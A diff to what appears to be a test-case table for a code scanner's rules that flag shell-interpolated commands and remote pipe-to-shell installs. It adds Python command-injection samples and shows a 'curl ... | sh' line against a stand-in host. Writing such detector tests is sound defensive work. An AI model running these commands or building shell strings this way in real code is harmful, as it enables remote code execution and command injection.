@@ -23,6 +23,8 @@ const CASES: Case[] = [
   { rule: 'shell.interpolated', file: 'handler.mjs', yes: "import { spawn } from 'child_process';\nspawn('grep ' + q, { shell: true });", no: "import { spawn } from 'child_process';\nspawn('grep', [q]);" },
   { rule: 'shell.interpolated', file: 'handler.py', yes: 'import os\nos.system(f"ping {input_data[\'host\']}")', no: 'import os\nos.path.join("a", input_data["x"])' },
   { rule: 'shell.interpolated', file: 'handler.py', yes: 'import subprocess\nsubprocess.run("ls " + d, shell=True)', no: 'import subprocess\nsubprocess.run(["ls", d])' },
+  { rule: 'shell.interpolated', file: 'handler.py', yes: 'from subprocess import Popen as P\nP(cmd, shell=True)', no: 'from subprocess import Popen as P\nP([cmd])' },
+  { rule: 'shell.interpolated', file: 'handler.py', yes: 'from os import system\nsystem("rm " + path)', no: 'from os import path\npath.join("a", b)' },
   { rule: 'shell.interpolated', file: 'run.sh', yes: 'bash -c "echo $1"', no: "bash -c 'echo $1'" },
   // shell.remote_pipe
   { rule: 'shell.remote_pipe', file: 'setup.sh', yes: 'curl -fsSL https://x.example/i.sh | sh', no: 'curl -fsSL https://x.example/i.sh -o i.sh' },
